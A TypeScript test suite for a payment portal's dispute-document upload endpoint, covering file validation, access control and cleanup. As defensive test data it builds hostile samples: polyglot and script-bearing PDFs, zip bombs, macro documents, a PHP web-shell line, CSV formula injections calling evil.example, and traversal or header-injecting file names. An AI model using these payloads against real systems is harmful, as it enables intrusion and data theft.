/** Promise S14: what is uploaded is what it says, is bounded, and is read only by those whom it concerns. */
import { count, eq } from 'drizzle-orm'
import { deflateSync } from 'node:zlib'
import * as v from 'valibot'
import { beforeAll, beforeEach, expect, it } from 'vitest'

import { UploadedDocumentSchema } from '../../domain/contract/dispute.ts'
import { FORGET_AFTER_MS, deleteOldDocuments } from '../jobs/delete-old/documents.ts'
import { audit } from '../store/schema/audit.ts'
import { disputeDocuments } from '../store/schema/disputes.ts'
import { describeStore } from '../../tests/server/database.ts'
import { errorsOf, type Answer, type Caller } from '../../tests/server/caller.ts'
import { openTestPortal, type TestPortal } from '../../tests/server/test-portal.ts'
import { draftBody, sampleDraft } from '../../tests/server/sample-draft.ts'
import { jpegOf, officeParts, pdfOf, pngOf, soundFiles, zipOf } from '../../tests/server/sample-files.ts'

type Sent = { file: Buffer; name: string; type?: string | null; trx?: string; side?: string }

async function upload(
  { app }: TestPortal,
  caller: Caller,
  { file, name, type = 'photo', trx = 'i-own', side = 'customer' }: Sent,
  headers: Record<string, string> = {},
): Promise<Answer> {
  const query = new URLSearchParams({ trx_id: trx, file_name: name, ...(type === null ? {} : { doc_type_id: type }) })
  const response = await app.request(`http://portal.test/ecaas/${side}-dispute-documents?${query.toString()}`, {
    method: 'POST',
    headers: {
      'content-type': 'application/octet-stream',
      host: 'portal.test',
      ...(caller.cookie === null ? {} : { cookie: caller.cookie }),
      ...headers,
    },
    body: new Uint8Array(file),
  })
  const bytes = new Uint8Array(await response.arrayBuffer())
  const text = new TextDecoder().decode(bytes)
  return {
    status: response.status,
    headers: response.headers,
    text,
    bytes,
    body: text === '' ? null : JSON.parse(text),
  }
}

const statusOf = (answer: Answer) => [answer.status, errorsOf(answer)[0]?.code]
const archive = (...more: Parameters<typeof zipOf>[0]) => zipOf([...officeParts('docx'), ...more])
const page = Buffer.from('<!DOCTYPE html><script>alert(1)</script>')
const relations = (type: string) =>
  `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
const jar = zipOf([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Evil' }])
const zeros = Buffer.alloc(60_000_000)
const inverted = (file: Buffer, at: number) => {
  const changed = Buffer.from(file)
  changed[at] = (changed[at] ?? 0) ^ 0xff
  return changed
}
/** A sound archive with bytes between its parts and its directory. */
function withGap(file: Buffer, gap: Buffer): Buffer {
  const directory = file.readUInt32LE(file.length - 6)
  const changed = Buffer.concat([file.subarray(0, directory), gap, file.subarray(directory)])
  changed.writeUInt32LE(directory + gap.length, changed.length - 6)
  return changed
}
/** Two names over the same packed bytes: how bombs of petabytes are made. */
function withOverlap(): Buffer {
  const file = archive({ name: 'word/a.xml', content: 'a' }, { name: 'word/b.xml', content: 'b' })
  const a = file.lastIndexOf('word/a.xml') - 46
  const b = file.lastIndexOf('word/b.xml') - 46
  file.writeUInt32LE(file.readUInt32LE(a + 42), b + 42)
  return file
}

/** Objects packed into one, as most programs write them, with further words in its head. */
function objectStream(objects: string, { head = '/Filter/FlateDecode', pack = deflateSync } = {}): string {
  const data = pack(Buffer.from(objects)).toString('latin1')
  return `5 0 obj\n<</Type/ObjStm/N 1/First 4/Length ${data.length}${head}>>\nstream\n${data}\nendstream\nendobj\n`
}
const script = '6 0 <</S/JavaScript/JS(app.alert(1))>>'
const asHex = (file: Buffer) => Buffer.from(`${file.toString('hex')}>`)
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

const tricks: readonly (readonly [what: string, name: string, file: () => Buffer])[] = [
  ['a page that is called a PDF', 'invoice.pdf', () => page],
  ['a PDF with a page before it', 'invoice.pdf', () => Buffer.concat([page, soundFiles.pdf])],
  ['a PDF with a page in its first bytes', 'invoice.pdf', () => pdfOf('<script>alert(1)</script>\n')],
  ['a PDF with a page behind it', 'invoice.pdf', () => Buffer.concat([soundFiles.pdf, page])],
  ['a PDF with an archive behind it', 'invoice.pdf', () => Buffer.concat([soundFiles.pdf, jar])],
  ['a PDF with an archive before it', 'invoice.pdf', () => Buffer.concat([jar, soundFiles.pdf])],
  [
    'a PDF with an archive inside, ended as PDFs are',
    'invoice.pdf',
    () => Buffer.concat([soundFiles.pdf, jar, Buffer.from('\n%%EOF\n')]),
  ],
  ['a PDF that is cut short', 'invoice.pdf', () => soundFiles.pdf.subarray(0, 60)],
  ['a PNG that is called a PDF', 'invoice.pdf', () => soundFiles.png],
  ['a PDF that is called a PNG', 'photo.png', () => soundFiles.pdf],
  ['a PNG with something behind it', 'photo.png', () => Buffer.concat([soundFiles.png, Buffer.from('more')])],
  ['a PNG with an archive behind it', 'photo.png', () => Buffer.concat([soundFiles.png, jar])],
  [
    'a PNG with a script in its words',
    'photo.png',
    () => pngOf({ kind: 'tEXt', text: 'a\0<ScRipt>alert(1)</script>' }),
  ],
  ['a PNG with PHP in its words', 'photo.png', () => pngOf({ kind: 'tEXt', text: 'a\0<?php system($_GET[0]);' })],
  ['a PNG whose sums are wrong', 'photo.png', () => inverted(soundFiles.png, 20)],
  ['a PNG without pixels', 'photo.png', () => soundFiles.png.subarray(0, 33)],
  ['a GIF that is called a PNG', 'photo.png', () => Buffer.from('GIF89a\u0001\u0000\u0001\u0000', 'latin1')],
  ['a GIF that is an archive too', 'photo.jpg', () => Buffer.concat([Buffer.from('GIF89a'), jar])],
  ['a JPEG with an archive behind it', 'photo.jpg', () => Buffer.concat([soundFiles.jpg, jar])],
  ['a JPEG with an archive in a comment', 'photo.jpg', () => jpegOf(jar.toString('latin1'))],
  ['a JPEG with a script in a comment', 'photo.jpeg', () => jpegOf('<script>alert(1)</script>')],
  ['a JPEG with a script behind it', 'photo.jpg', () => Buffer.concat([soundFiles.jpg, page])],
  ['a JPEG that is only its beginning', 'photo.jpg', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
  ['a JPEG that is cut short', 'photo.jpg', () => soundFiles.jpg.subarray(0, -4)],
  [
    'a drawing that runs',
    'photo.png',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ],
  ['a drawing that is called text', 'prices.csv', () => Buffer.from('<svg onload="alert(1)"/>')],
  ['a page that is called text', 'prices.csv', () => page],
  ['a page further down in text', 'prices.csv', () => Buffer.from(`a;b\n${'1;2\n'.repeat(1_000)}<script>x</script>`)],
  ['text with NUL', 'prices.csv', () => Buffer.from('a;b\n\0')],
  ['text in Latin 1', 'prices.csv', () => Buffer.from('Pr\u00e9is', 'latin1')],
  ['text in UTF-16', 'prices.csv', () => Buffer.from('\ufeffa;b', 'utf16le')],
  ['a PDF that is called text', 'prices.csv', () => soundFiles.pdf],
  ['an archive that is called text', 'prices.csv', () => jar],
  ['a program that is called a sheet', 'prices.xlsx', () => Buffer.from('MZ\u0090\u0000', 'latin1')],
  ['any archive that is called a letter', 'letter.docx', () => jar],
  ['a sheet that is called a letter', 'letter.docx', () => soundFiles.xlsx],
  ['a letter that is called a sheet', 'prices.xlsx', () => soundFiles.docx],
  ['a letter with a part above its folder', 'letter.docx', () => archive({ name: '../etc/cron.d/x', content: 'x' })],
  ['a letter with a part twice', 'letter.docx', () => archive({ name: 'WORD/document.xml', content: 'x' })],
  ['a letter that is locked', 'letter.docx', () => archive({ name: 'word/a.xml', content: 'x', flags: 1 })],
  ['a letter with a page before it', 'letter.docx', () => Buffer.concat([page, soundFiles.docx])],
  ['a letter with a page behind it', 'letter.docx', () => Buffer.concat([soundFiles.docx, page])],
  ['a letter with a page between its parts', 'letter.docx', () => withGap(soundFiles.docx, page)],
  ['a letter whose parts share their bytes', 'letter.docx', withOverlap],
  ['a letter that is a bomb', 'letter.docx', () => archive({ name: 'word/a.xml', content: zeros })],
  [
    'a letter that is a bomb and says that it is not',
    'letter.docx',
    () => archive({ name: 'word/a.xml', content: zeros, claimedSize: 1_000 }),
  ],
  [
    'a letter of many parts that is a bomb together',
    'letter.docx',
    () =>
      archive(
        ...Array.from({ length: 130 }, (_, at) => ({ name: `word/${at}.xml`, content: zeros.subarray(0, 900_000) })),
      ),
  ],
  [
    'a letter of more parts than any',
    'letter.docx',
    () => archive(...Array.from({ length: 2_001 }, (_, at) => ({ name: `word/${at}.xml`, content: '' }))),
  ],
]

const harmful: readonly (readonly [what: string, code: string, name: string, file: () => Buffer])[] = [
  [
    'a PDF that runs a script',
    'documentActive',
    'invoice.pdf',
    () => pdfOf('3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n'),
  ],
  [
    'a PDF that hides its script',
    'documentActive',
    'invoice.pdf',
    () => pdfOf('3 0 obj\n<</S/J#61va#53cript/JS(x)>>\nendobj\n'),
  ],
  [
    'a PDF that starts a program',
    'documentActive',
    'invoice.pdf',
    () => pdfOf('3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n'),
  ],
  [
    'a PDF whose script is packed with other objects',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(objectStream(script)),
  ],
  [
    'a PDF whose packed script hides its name',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(objectStream(script.replace('Java', '#4aava'))),
  ],
  [
    'a PDF whose packed script says in a word of its own that it is none',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(objectStream(script).replace('/ObjStm', '/Obj#53tm')),
  ],
  [
    'a PDF whose packed script is of no type',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(objectStream(script).replace('/Type/ObjStm', '/X (obj stream endobj) ')),
  ],
  [
    'a PDF whose packed script is behind a comment',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(objectStream(script).replace('/N 1', '%>>\n/N 1')),
  ],
  [
    'a PDF whose packed script is inside another stream',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(`3 0 obj\n<</Length 900>>\nstream\n${objectStream(script)}`),
  ],
  [
    'a PDF whose objects are packed in an unusual way',
    'documentActive',
    'invoice.pdf',
    () =>
      pdfOf(
        objectStream(script, {
          head: '/Filter[/ASCIIHexDecode/FlateDecode]',
          pack: (file) => asHex(deflateSync(file)),
        }),
      ),
  ],
  [
    'a PDF whose packed objects cannot be unpacked',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(objectStream(script, { pack: (file) => inverted(deflateSync(file), 9) })),
  ],
  [
    'a PDF whose packed objects are a bomb',
    'documentActive',
    'invoice.pdf',
    () => pdfOf(objectStream(zeros.toString('latin1'))),
  ],
  [
    'a PDF with a form that scripts fill in',
    'documentActive',
    'invoice.pdf',
    () => pdfOf('3 0 obj\n<</XFA 4 0 R>>\nendobj\n'),
  ],
  [
    'a letter with macros that is called one without',
    'documentActive',
    'letter.docx',
    () => zipOf(officeParts('docx', 'application/vnd.ms-word.document.macroEnabled.main+xml')),
  ],
  [
    'a letter with macros',
    'documentActive',
    'letter.docx',
    () => archive({ name: 'word/vbaProject.bin', content: 'x' }),
  ],
  [
    'a letter with macros under another name',
    'documentActive',
    'letter.docx',
    () => archive({ name: 'word/media/image1.png', content: Buffer.from('\u00d0\u00cf\u0011\u00e0', 'latin1') }),
  ],
  [
    'a letter with a control',
    'documentActive',
    'letter.docx',
    () => archive({ name: 'word/activeX/activeX1.xml', content: '<x/>' }),
  ],
  [
    'a letter with a program',
    'documentActive',
    'letter.docx',
    () => archive({ name: 'word/media/run.exe', content: 'x' }),
  ],
  [
    'a letter with an archive inside',
    'documentActive',
    'letter.docx',
    () => archive({ name: 'word/media/a.png', content: jar }),
  ],
  [
    'a letter whose template is fetched from elsewhere',
    'documentActive',
    'letter.docx',
    () => archive({ name: 'word/_rels/settings.xml.rels', content: relations('attachedTemplate') }),
  ],
  ['the harmless virus of scanners', 'documentInfected', 'prices.csv', () => Buffer.from(eicar)],
  ['the harmless virus in a PDF', 'documentInfected', 'invoice.pdf', () => pdfOf(`3 0 obj\n(${eicar})\nendobj\n`)],
  ...[
    'a,=1+1',
    'a;b\n1;=HYPERLINK("http://evil.example";"pay")',
    "a,b\n-2+3+cmd|' /C calc'!A0,2",
    'a,@SUM(1)',
    'a\t+A1',
    'a,"=1+1"',
    '1,"a;=cmd()"',
    '"a""b",=1',
    '\ufeff=1',
    'a,\uff1d1+1',
  ].map(
    (text) =>
      [`the formula ${JSON.stringify(text)}`, 'documentFormula', 'prices.csv', () => Buffer.from(text)] as const,
  ),
]

/** Files that look dangerous and are not. */
const harmless: readonly (readonly [what: string, name: string, file: Buffer])[] = [
  ['a PDF with packed objects', 'invoice.pdf', pdfOf(objectStream('6 0 <</Type/Page>>'))],
  ['a PDF with a sum, a link and a file', 'invoice.pdf', pdfOf('3 0 obj\n<</S/URI/URI(http://a.example)>>\nendobj\n')],
  [
    'amounts below zero, percentages, dashes and telephone numbers',
    'prices.csv',
    Buffer.from('a,b,c\n-40.00,"-1,234.50 EUR",-5 %\n-,+49 30 123456,"x=1, -y"\n(40.00);-12,5;+1'),
  ],
]

const names: readonly (readonly [name: string, code: string])[] = [
  ['run.exe', 'unsupportedType'],
  ['letter.docm', 'unsupportedType'],
  ['drawing.svg', 'unsupportedType'],
  ['page.html', 'unsupportedType'],
  ['invoice.pdf.exe', 'unsupportedType'],
  ['invoice', 'unsupportedType'],
  ['pdf', 'unsupportedType'],
  ['../etc/invoice.pdf', 'documentSuspicious'],
  ['..\\..\\invoice.pdf', 'documentSuspicious'],
  ['/etc/invoice.pdf', 'documentSuspicious'],
  ['C:\\invoice.pdf', 'documentSuspicious'],
  ['run.exe\0.pdf', 'documentSuspicious'],
  ['invoice\u202efdp.pdf', 'documentSuspicious'],
  ['invoice\r\nX-Header: 1.pdf', 'documentSuspicious'],
  ['con.pdf', 'documentSuspicious'],
  ['LPT1.pdf', 'documentSuspicious'],
  ['.pdf', 'documentSuspicious'],
  ['invoice.pdf.', 'documentSuspicious'],
  [`${'x'.repeat(300)}.pdf`, 'documentSuspicious'],
]

describeStore('a document', (openStore) => {
  let portal: TestPortal
  let payer: Caller
  let merchant: Caller
  let support: Caller
  let before = 0
  const stored = async () => {
    const [row] = await portal.store.db().select({ rows: count() }).from(disputeDocuments)
    return row?.rows ?? 0
  }
  beforeAll(async () => {
    portal = await openTestPortal(await openStore())
    payer = await portal.signedIn('payer')
    merchant = await portal.signedIn('merchant')
    support = await portal.signedIn('adminType')
  })
  beforeEach(async () => {
    before = await stored()
  })

  it.each(Object.entries(soundFiles))(
    'of the kind %s is stored, and returned byte for byte as a download',
    async (kind, file) => {
      const answer = await upload(portal, payer, { file, name: `Preis 🧾 é.${kind.toUpperCase()}` })
      expect([answer.status, answer.text]).toEqual([201, expect.any(String)])
      const { id, fileSize, fileName } = v.parse(UploadedDocumentSchema, answer.body)
      expect({ fileSize, fileName }).toEqual({ fileSize: file.length, fileName: `Preis 🧾 é.${kind.toUpperCase()}` })
      const response = await portal.app.request(`http://portal.test/ecaas/customer-dispute-documents/${id}/content`, {
        headers: { cookie: payer.cookie ?? '' },
      })
      expect(Buffer.from(await response.arrayBuffer()).equals(file)).toBe(true)
      expect(response.headers.get('content-disposition')).toMatch(/^attachment;/)
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    },
  )

  it.each(tricks)('is not %s', async (_, name, file) => {
    expect(statusOf(await upload(portal, payer, { file: file(), name }))).toEqual([422, 'documentSuspicious'])
    expect(await stored()).toBe(before)
  })

  it.each(harmful)('is not %s', async (_, code, name, file) => {
    expect(statusOf(await upload(portal, payer, { file: file(), name }))).toEqual([422, code])
    expect(await stored()).toBe(before)
  })

  it.each(harmless)('may be %s', async (_, name, file) => {
    expect(statusOf(await upload(portal, payer, { file, name }))).toEqual([201, undefined])
  })

  it.each(names)('is not called %j', async (name, code) => {
    expect(statusOf(await upload(portal, payer, { file: soundFiles.pdf, name }))).toEqual([422, code])
    expect(await stored()).toBe(before)
  })

  it('is not empty, of no type, or of one that the program does not know', async () => {
    expect(statusOf(await upload(portal, payer, { file: Buffer.alloc(0), name: 'a.pdf' }))).toEqual([
      422,
      'documentEmpty',
    ])
    for (const type of [null, 'nothing']) {
      const answer = await upload(portal, payer, { file: soundFiles.pdf, name: 'a.pdf', type })
      expect(statusOf(answer)).toEqual([422, 'documentTypeMissing'])
    }
    expect(await stored()).toBe(before)
  })

  it('is not longer than the program accepts, with or without a Content-Length', async () => {
    const file = Buffer.alloc(10_000_001, 'a')
    expect(statusOf(await upload(portal, payer, { file, name: 'a.csv' }))).toEqual([413, 'tooLarge'])
    const refusal = await upload(portal, payer, { file, name: 'a.csv' }, { 'content-length': '10000001' })
    expect([statusOf(refusal), refusal.headers.get('connection')]).toEqual([[413, 'tooLarge'], 'close'])
    expect(statusOf(await upload(portal, payer, { file: file.subarray(1), name: 'a.csv' }))).toEqual([201, undefined])
    expect(await stored()).toBe(before + 1)
  })

  it('comes from no other site, and in no form that one could send', async () => {
    const sent = { file: soundFiles.pdf, name: 'a.pdf' }
    for (const headers of [
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
      { origin: 'http://evil.example' },
      { origin: 'null' },
    ]) {
      expect(statusOf(await upload(portal, payer, sent, headers))).toEqual([403, 'crossSite'])
    }
    for (const type of [
      'text/plain',
      'multipart/form-data',
      'application/x-www-form-urlencoded',
      'application/vnd.api+json',
    ]) {
      expect(statusOf(await upload(portal, payer, sent, { 'content-type': type }))).toEqual([
        415,
        'mediaTypeUnsupported',
      ])
    }
    expect(statusOf(await upload(portal, portal.visitor(), sent))).toEqual([401, 'notSignedIn'])
    expect(await stored()).toBe(before)
    const fromHere = { 'sec-fetch-site': 'same-origin', origin: 'http://portal.test' }
    expect((await upload(portal, payer, sent, fromHere)).status).toBe(201)
  })

  it('belongs to a transaction that its sender knows: foreign ones are as unknown as any', async () => {
    const sent = { file: soundFiles.pdf, name: 'a.pdf' }
    for (const trx of ['i-foreign', 'i-far', 'i-unknown']) {
      expect(statusOf(await upload(portal, payer, { ...sent, trx }))).toEqual([404, 'notFound'])
      if (trx !== 'i-foreign')
        expect(statusOf(await upload(portal, support, { ...sent, trx, side: 'admin' }))).toEqual([404, 'notFound'])
      expect(statusOf(await upload(portal, merchant, { ...sent, trx, side: 'merchant' }))).toEqual([404, 'notFound'])
    }
    // Of the merchant, but never disputed.
    expect(statusOf(await upload(portal, merchant, { ...sent, trx: 'i-late', side: 'merchant' }))).toEqual([
      404,
      'notFound',
    ])
    expect(await stored()).toBe(before)
    for (const [caller, side] of [
      [merchant, 'merchant'],
      [support, 'admin'],
    ] as const) {
      expect((await upload(portal, caller, { ...sent, trx: 'i-disputed', side })).status).toBe(201)
    }
  })

  it('is read by nobody but its sender until a dispute names it, and by every side of that dispute then', async () => {
    const own = '/ecaas/customer-dispute-documents/dd-loose/content'
    expect((await payer.get(own)).status).toBe(200)
    for (const [caller, path] of [
      [await portal.signedIn('admin'), own],
      [merchant, '/ecaas/merchant-dispute-documents/dd-loose/content'],
      [support, '/ecaas/admin-dispute-documents/dd-loose/content'],
    ] as const) {
      expect((await caller.get(path)).status).toBe(404)
    }
    const viewer = await portal.signedIn('viewer')
    expect((await viewer.get('/ecaas/customer-dispute-documents/dd-own/content')).status).toBe(200)
    expect((await merchant.get('/ecaas/merchant-dispute-documents/dd-own/content')).status).toBe(200)
    expect((await support.get('/ecaas/admin-dispute-documents/dd-own/content')).status).toBe(200)
    // Of a dispute with another merchant.
    expect((await merchant.get('/ecaas/merchant-dispute-documents/dd-foreign/content')).status).toBe(404)
  })

  it('is removed by its sender, while no dispute names it', async () => {
    const remove = (caller: Caller, id: string) =>
      caller.send(
        'DELETE',
        '/merchant-invoice-documents',
        JSON.stringify({ data: { type: 'invoice-documents', attributes: { document_id: id } } }),
      )
    expect(statusOf(await remove(merchant, 'dd-loose'))).toEqual([404, 'notFound'])
    expect(statusOf(await remove(payer, 'dd-unknown'))).toEqual([404, 'notFound'])
    expect(statusOf(await remove(payer, 'dd-foreign'))).toEqual([404, 'notFound'])
    expect(statusOf(await remove(payer, 'dd-own'))).toEqual([409, 'documentNamed'])
    expect(await stored()).toBe(before)
    expect((await remove(payer, 'dd-loose')).status).toBe(204)
    expect(await stored()).toBe(before - 1)
  })

  it('of an invoice is removed by an administrator of its own merchant, and by nobody else', async () => {
    const invoiceDocument = 'd-own'
    const remove = (caller: Caller) =>
      caller.send(
        'DELETE',
        '/merchant-invoice-documents',
        JSON.stringify({ data: { type: 'invoice-documents', attributes: { document_id: invoiceDocument } } }),
      )
    const isThere = async () => (await payer.get(`/ecaas/documents/${invoiceDocument}/content`)).status === 200
    expect(statusOf(await remove(payer))).toEqual([404, 'notFound'])
    expect(statusOf(await remove(support))).toEqual([404, 'notFound'])
    expect(statusOf(await remove(await portal.signedIn('supplier')))).toEqual([404, 'notFound'])
    expect(statusOf(await remove(await portal.signedIn('colleague')))).toEqual([403, 'roleRequired'])
    expect(await isThere()).toBe(true)
    expect((await remove(merchant)).status).toBe(204)
    expect(await isThere()).toBe(false)
    const rows = await portal.store.db().select().from(audit).where(eq(audit.subject, invoiceDocument))
    const removals = rows.filter(({ action }) => action === 'document.removed')
    expect(removals).toMatchObject([{ userId: 'u-merchant', facts: { of: 'invoice' } }])
  })

  it('is one of no more than can be named at once', async () => {
    const admin = await portal.signedIn('admin')
    const sent = { file: soundFiles.csv, name: 'a.csv' }
    const answers: unknown[] = []
    for (let at = 0; at <= 100; at += 1) answers.push((await upload(portal, admin, sent)).status)
    expect(answers).toEqual([...Array.from({ length: 100 }, () => 201), 409])
  })

  it('is cleared away when nothing has named it for an hour', async () => {
    const { clock, store } = portal
    const named = (await store.db().select().from(disputeDocuments)).filter(({ disputeId }) => disputeId !== null)
    const job = deleteOldDocuments(store)
    clock.move(FORGET_AFTER_MS - 1)
    await job.run(clock.now())
    expect(await stored()).toBe(before)
    clock.move(1)
    await job.run(clock.now())
    expect(await stored()).toBe(named.length)
    const [remaining] = await store.db().select().from(disputeDocuments).where(eq(disputeDocuments.id, 'dd-own'))
    expect(remaining?.disputeId).toBe('dp-own')
  })

  it('is stored as long as a draft of its sender names it', async () => {
    const { clock, store } = portal
    const job = deleteOldDocuments(store)
    const sender = await portal.signedIn('payer')
    const { body } = await upload(portal, sender, { file: soundFiles.csv, name: 'a.csv' })
    const { data } = v.parse(v.object({ data: v.object({ id: v.string() }) }), body)
    const document = { documentId: data.id, trxId: 'i-own', typeId: 'photo', fileName: 'a.csv', fileSize: 9 }
    const held = await stored()
    const saveDraft = (caller: Caller, revision: number, documents: (typeof document)[]) =>
      caller.post('/ecaas/drafts/disputeCreate/draft-0001', draftBody(revision, sampleDraft({ documents })))
    expect((await saveDraft(sender, 0, [document])).status).toBe(200)
    clock.move(3 * FORGET_AFTER_MS)
    await job.run(clock.now())
    expect(await stored()).toBe(held)
    // Another user's draft does not save it from deletion.
    const admin = await portal.signedIn('admin')
    await saveDraft(admin, 0, [document])
    await saveDraft(await portal.signedIn('payer'), 1, [])
    await job.run(clock.now())
    expect(await stored()).toBe(held - 1)
  })
})
